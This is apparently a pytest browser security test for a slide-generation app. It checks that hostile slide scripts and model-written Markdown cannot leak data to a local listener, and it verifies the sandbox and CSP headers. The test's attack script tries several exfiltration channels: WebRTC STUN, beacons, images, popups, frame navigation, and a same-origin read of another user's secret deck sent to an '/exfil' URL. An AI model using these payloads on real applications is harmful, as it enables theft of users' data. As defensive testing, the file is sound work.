"""Hostile slides and model text in real Chromium against the packaged app: nothing reaches the
listener on 127.0.0.1 from any view where slide scripts run, the print export runs them outside
the app's origin, chat Markdown loads nothing, and the app still works under its own CSP.

Each attack ends with a console line ("sg-attack done"); the test then allows a short grace
for packets in flight and asserts the listener saw nothing at all.
"""

from __future__ import annotations

import re
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.security.conftest import Listener, new_user

pytestmark = pytest.mark.browser

SCREENSHOTS = Path(__file__).resolve().parents[2] / "artifacts" / "screenshots"
GRACE_S = 1.5


def attack_script(listener: Listener, other_deck: str = "") -> str:
    """Every way out a slide script has tried: WebRTC (here and in a nested frame), navigation
    of its own frame, a same-origin read of another deck, beacons and images."""
    url, udp = listener.url, listener.udp_port
    stun = f"stun:127.0.0.1:{udp}"
    child = (
        "<script>try{var p=new RTCPeerConnection({iceServers:[{urls:&quot;" + stun + "&quot;}]});"
        "p.createDataChannel(&quot;x&quot;);p.createOffer().then(function(o){"
        "return p.setLocalDescription(o)})}catch(e){}"
        f"location.href=&quot;{url}/child-nav&quot;<\\/script>"
    )
    return f"""
var say = function (what) {{ console.log('sg-attack ' + what); }};
try {{
  var pc = new RTCPeerConnection({{iceServers: [{{urls: '{stun}'}}]}});
  pc.createDataChannel('x');
  pc.createOffer().then(function (o) {{ return pc.setLocalDescription(o); }});
}} catch (e) {{ say('no rtc'); }}
try {{
  var Legacy = window.webkitRTCPeerConnection;
  new Legacy({{iceServers: [{{urls: '{stun}'}}]}}).createDataChannel('y');
}} catch (e) {{ say('no legacy rtc'); }}
try {{
  window.document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="{child}"></iframe>');
}} catch (e) {{ say('no frame'); }}
try {{ new Image().src = '{url}/img'; }} catch (e) {{}}
try {{ navigator.sendBeacon('{url}/beacon', 'x'); }} catch (e) {{}}
try {{ window.open('{url}/popup'); }} catch (e) {{}}
try {{
  fetch('/api/export/{other_deck}.html').then(function (r) {{ return r.text(); }})
    .then(function (t) {{ location.href = '{url}/exfil?n=' + t.length; }}, function () {{}});
}} catch (e) {{}}
setTimeout(function () {{
  say('done');
  try {{ location.href = '{url}/nav?secret=1'; }} catch (e) {{}}
  var a = window.document.createElement('a');
  a.href = '{url}/link';
  window.document.body.appendChild(a);
  a.click();
}}, 400);
"""


def _deck(store: Any, owner: str, title: str, script: str = "", body: str = "") -> str:
    from slidegen.deck import parse_deck_html

    html = (
        f'<div class="slide"><h1>{title}</h1>{body}'
        + (f"<script>{script}</script>" if script else "")
        + "</div>"
    )
    return store.create_deck(owner, title, slides=parse_deck_html(html).slides).deck.id


def _wait_console(page: Any, lines: list[str], text: str, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while not any(text in line for line in lines):
        assert time.monotonic() < deadline, f"never saw {text!r}: {lines[-10:]}"
        page.wait_for_timeout(50)


def _attack_view(page: Any, url: str, listener: Listener) -> list[str]:
    lines: list[str] = []
    page.on("console", lambda message: lines.append(message.text))
    listener.clear()
    page.goto(url)
    _wait_console(page, lines, "sg-attack done")
    page.wait_for_timeout(GRACE_S * 1000)
    return listener.seen()


def _chart_drawn(frame: Any) -> bool:
    try:
        return bool(
            frame.evaluate(
                "() => !!document.querySelector('h1') && !!window.Chart"
                " && Object.keys(window.Chart.instances).length > 0"
            )
        )
    except Exception:  # a frame that is still loading or was replaced
        return False


@pytest.fixture(scope="module")
def hostile(store: Any, listener: Listener) -> tuple[str, str]:
    """A user with a secret deck and a hostile deck that tries to leak it."""
    owner = new_user("victim")
    secret = _deck(store, owner, "Secret plans")
    return owner, _deck(store, owner, "Hostile slide", attack_script(listener, secret))


def test_editor_frames_leak_nothing(
    signed_in: Any, app: Any, listener: Listener, hostile: tuple[str, str]
) -> None:
    owner, deck = hostile
    seen = _attack_view(signed_in(owner), f"{app.url}/?deck={deck}", listener)
    assert seen == [], f"a slide in the editor reached the outside: {seen}"


def test_presenter_leaks_nothing(
    signed_in: Any, app: Any, listener: Listener, hostile: tuple[str, str]
) -> None:
    owner, deck = hostile
    seen = _attack_view(signed_in(owner), f"{app.url}/present/{deck}", listener)
    assert seen == [], f"a slide in the presenter reached the outside: {seen}"


def test_print_export_runs_slides_outside_the_app_origin(
    signed_in: Any, app: Any, listener: Listener, hostile: tuple[str, str], store: Any
) -> None:
    owner, deck = hostile
    page = signed_in(owner)
    seen = _attack_view(page, f"{app.url}/api/export/{deck}.html?print=1", listener)
    assert seen == [], f"a slide in the print export reached the outside: {seen}"
    # The document holding the slides is sandboxed by its own response header.
    headers = {"x-forwarded-user": owner}
    for query in ("?print=frame", ""):
        response = httpx.get(
            f"{app.url}/api/export/{deck}.html{query}",
            headers={**headers, "sec-fetch-dest": "iframe"},
        )
        assert response.status_code == 200
        policy = response.headers.get("content-security-policy", "")
        assert "sandbox allow-scripts" in policy, policy
        assert "allow-same-origin" not in policy and "allow-popups" not in policy, policy
        assert "connect-src 'none'" in policy, policy
        assert "allow-modals" in policy, policy  # the print dialog may open
    # The print view still prints: the framed document asks for the dialog once it has loaded.
    # (An init script does not reliably reach a sandboxed frame, so the call is checked in the
    # framed document itself.)
    framed = httpx.get(
        f"{app.url}/api/export/{deck}.html?print=frame",
        headers={**headers, "sec-fetch-dest": "iframe"},
    )
    assert "window.print()" in framed.text
    assert framed.text.count("window.print()") == 1
    viewer = signed_in(owner)

    def without_the_dialog(route: Any) -> None:
        # A print dialog would hold the frame's renderer; the rest of the document, its
        # sandbox and CSP headers reach the browser as served.
        served = route.fetch()
        route.fulfill(response=served, body=served.text().replace("window.print()", "void 0"))

    # A plain deck: the hostile one navigates its frame away 400 ms after it loads, which on a
    # loaded machine can come before the slide is seen.
    plain = _deck(store, owner, "Printable slide")
    viewer.route(re.compile(r"/api/export/[^?]+\?print=frame"), without_the_dialog)
    viewer.goto(f"{app.url}/api/export/{plain}.html?print=1")
    viewer.frame_locator("iframe").locator("h1", has_text="Printable slide").wait_for()
    # Opened on its own (not framed), the slide document is not served: the framing page is.
    alone = httpx.get(
        f"{app.url}/api/export/{deck}.html?print=frame",
        headers={**headers, "sec-fetch-dest": "document"},
    )
    assert alone.status_code == 303 and alone.headers["location"].endswith("?print=1")


def test_chat_markdown_loads_nothing_and_the_app_works_under_its_csp(
    signed_in: Any, app: Any, listener: Listener, model: Any, store: Any
) -> None:
    from slidegen.emulator.scripts import ModelReply

    user = new_user("md")
    image = f"{listener.url}/markdown.png?title=leak"
    chart = (
        "new Chart(document.getElementById('c'), {type: 'bar', data: {labels: ['A', 'B'], "
        "datasets: [{label: 'x', data: [1, 2]}]}});"
    )
    model.replies.append(
        ModelReply(
            text=f"<title>Plan ![logo]({image})</title>"
            '<div class="slide"><h1>Rendered under CSP</h1>'
            '<canvas id="c" width="600" height="300"></canvas>'
            f"<script>{chart}</script></div>"
        )
    )
    page = signed_in(user)
    violations: list[str] = []
    page.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    listener.clear()
    response = page.goto(app.url)
    policy = response.headers.get("content-security-policy", "")
    for directive in ("img-src 'self' data: blob:", "object-src 'none'", "base-uri 'none'"):
        assert directive in policy, policy
    assert "connect-src 'self'" in policy and "frame-src 'self'" in policy, policy
    page.wait_for_selector("#chat-input")
    page.fill("#chat-input", "A plan")
    page.keyboard.press("Enter")
    page.locator(".sg-msg-assistant", has_text="Created a deck").wait_for()
    assert "[image not shown]" in page.locator("#chat-log").inner_text()
    # The deck renders: its frames ran their scripts (Chart.js from the app drew the chart)
    # under the page's policy and their own.
    deadline = time.monotonic() + 20
    while not any(_chart_drawn(frame) for frame in page.frames[1:]):
        assert time.monotonic() < deadline, "no slide frame drew its chart"
        page.wait_for_timeout(100)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / "security-csp-1440.png"))
    page.set_viewport_size({"width": 1024, "height": 768})
    page.screenshot(path=str(SCREENSHOTS / "security-csp-1024.png"))
    page.wait_for_timeout(GRACE_S * 1000)
    assert listener.seen() == [], f"model Markdown loaded something: {listener.seen()}"
    assert violations == [], f"the app broke its own CSP: {violations}"
